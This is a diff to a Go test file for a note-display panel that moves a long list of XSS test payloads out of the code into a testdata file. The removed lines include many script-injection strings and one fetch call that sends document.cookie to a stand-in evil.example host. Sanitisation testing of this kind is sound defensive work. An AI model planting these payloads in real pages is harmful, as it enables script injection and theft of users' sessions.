@@ -3,6 +3,7 @@ package panel
 import (
 	"fmt"
 	"net/url"
+	"os"
 	"strings"
 	"testing"
 
@@ -11,83 +12,21 @@ import (
 )
 
 // hostile are texts that would run something, load something or break out of where they stand, if a page
-// took them for more than text.
-func hostile() []string {
-	return []string{
-		`<script>alert(1)</script>`,
-		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
-		`<script type="module">import "https://evil.example/x.js"</script>`,
-		"<script\n>alert(1)</script\n>",
-		`<img src=x onerror=alert(1)>`,
-		`<img src="https://evil.example/pixel.png">`,
-		`<img src=x:x onerror="fetch('//evil.example/'+document.cookie)">`,
-		`<svg onload=alert(1)>`,
-		`<svg><script href="data:text/javascript,alert(1)"/></svg>`,
-		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
-		`<svg><use href="https://evil.example/x.svg#x"/></svg>`,
-		`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
-		`<iframe src="javascript:alert(1)"></iframe>`,
-		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
-		`<object data="data:text/html,<script>alert(1)</script>"></object>`,
-		`<embed src="https://evil.example/x.swf">`,
-		`<link rel=stylesheet href=https://evil.example/x.css>`,
-		`<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
-		`<div style="background:url(https://evil.example/x.png)">x</div>`,
-		`<base href="https://evil.example/">`,
-		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
-		`<form action="https://evil.example/"><input name=token><button>Go</button></form>`,
-		`<button formaction="javascript:alert(1)">x</button>`,
-		`<details open ontoggle=alert(1)>x</details>`,
-		`<video poster=https://evil.example/p.png><source onerror=alert(1)></video>`,
-		`<audio src=https://evil.example/a.ogg autoplay>`,
-		`<body onload=alert(1)>`,
-		`<input autofocus onfocus=alert(1)>`,
-		`<a href="javascript:alert(1)">x</a>`,
-		`<a href="https://evil.example/" ping="https://evil.example/ping">x</a>`,
-		`<template><script>alert(1)</script></template>`,
-		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-		`<!--><script>alert(1)</script>-->`,
-		`<!-- x --!><img src=x onerror=alert(1)>`,
-		`<![CDATA[<script>alert(1)</script>]]>`,
-		`<?xml-stylesheet href="javascript:alert(1)"?>`,
-		`<!DOCTYPE html [<!ENTITY x "y">]>`,
-		`</main></body></html><script>alert(1)</script>`,
-		`</textarea></title></style></script><img src=x onerror=alert(1)>`,
-		`[x](javascript:alert(1))`,
-		`[x](JaVaScRiPt:alert(1))`,
-		`[x](java&#x73;cript:alert(1))`,
-		"[x](java\\\nscript:alert(1))",
-		`[x](<java script:alert(1)>)`,
-		`[x](&#1;javascript:alert(1))`,
-		`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
-		`[x](vbscript:msgbox(1))`,
-		`[x](//evil.example/path)`,
-		`[x](file:///etc/passwd)`,
-		`[x](https://evil.example/ "onmouseover=alert(1) x=\"")`,
-		`[x](" onclick="alert(1))`,
-		"[x]\n\n[x]: javascript:alert(1) 'title'",
-		`![x](https://evil.example/pixel.png "t")`,
-		`![x"onerror="alert(1)](x.png)`,
-		`<javascript:alert(1)>`,
-		`<data:text/html,alert(1)>`,
-		`[[javascript:alert(1)|x]]`,
-		`[["><img src=x onerror=alert(1)>|x]]`,
-		`![[https://evil.example/pixel.png]]`,
-		"```\"><script>alert(1)</script>\nx\n```",
-		"`<script>alert(1)</script>`",
-		`| <img src=x onerror=alert(1)> | x |` + "\n|---|---|\n" + `| <script>alert(1)</script> | y |`,
-		"- [ ] <input type=image src=https://evil.example/x.png>",
-		`{{.Body}} {{template "top" .}} ${alert(1)}`,
-		"\u202e<script>\u2066alert(1)\x00</script>\x1b[31m",
-		`~~<s onmouseover=alert(1)>x</s>~~ http://evil.example/"onclick="alert(1)`,
+// took them for more than text. The check with a browser reads the same file.
+func hostile(t testing.TB) []string {
+	t.Helper()
+	text, err := os.ReadFile("testdata/hostile.txt")
+	if err != nil {
+		t.Fatal(err)
 	}
+	return strings.Split(strings.TrimSuffix(string(text), "\n"), "\n====\n")
 }
 
 // A note that is hostile in its text, headings, title, tags, status, relations and name does nothing on any
 // page that shows it, and neither does what is asked for.
 func TestHostileNotesDoNothing(t *testing.T) {
 	r := gittest.New(t)
-	cases := hostile()
+	cases := hostile(t)
 	if len(cases) < 60 {
 		t.Fatalf("%d cases", len(cases))
 	}
